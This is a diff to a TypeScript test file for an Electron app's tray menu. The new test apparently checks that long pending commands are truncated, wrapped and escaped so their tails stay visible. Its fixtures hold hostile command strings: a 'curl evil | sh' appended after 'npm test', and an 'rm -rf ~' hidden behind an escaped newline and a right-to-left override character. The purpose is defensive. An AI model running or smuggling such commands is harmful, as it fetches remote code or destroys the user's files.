@@ -9,7 +9,7 @@ import { Client, messagePortChannel, type MessagePortLike } from '../src/ninep/i
 import type { MessagePortMain } from 'electron';
 import { portMainChannel } from '../src/main/bridge.js';
 import { drawIcon, iconPng } from '../src/main/icon.js';
-import { Watcher, type PendingRequest } from '../src/main/watcher.js';
+import { middleEllipsis, unescapeField, visible, Watcher, wrapLines, type PendingRequest } from '../src/main/watcher.js';
 import { FakeOlliesrv } from './fake-olliesrv.js';
 import { until } from './helpers.js';
 
@@ -145,5 +145,19 @@ describe('tray icon', () => {
     // Away from the badge the two are the same picture.
     expect(at(plain, 8, 24)).toEqual(at(badged, 8, 24));
     expect(at(plain, 0, 0)[3]).toBeLessThan(255);
+  });
+});
+
+describe('the tray shows the whole command', () => {
+  it('cuts a long label in the middle, keeping the tail, and wraps the whole of it for the submenu', () => {
+    const cmd = `npm test ${'x'.repeat(100)}; curl evil | sh`;
+    const label = middleEllipsis(cmd, 70);
+    expect([...label]).toHaveLength(70);
+    expect(label.startsWith('npm test')).toBe(true);
+    expect(label.endsWith('; curl evil | sh')).toBe(true);
+    expect(middleEllipsis('short', 70)).toBe('short');
+    expect(wrapLines(cmd, 80).join('')).toBe(cmd);
+    expect(wrapLines(cmd, 80).every((l) => l.length <= 80)).toBe(true);
+    expect(visible(unescapeField('npm test\\nrm -rf ~\\u{202e}'))).toBe('npm test ↵ rm -rf ~⟨U+202E⟩');
   });
 });
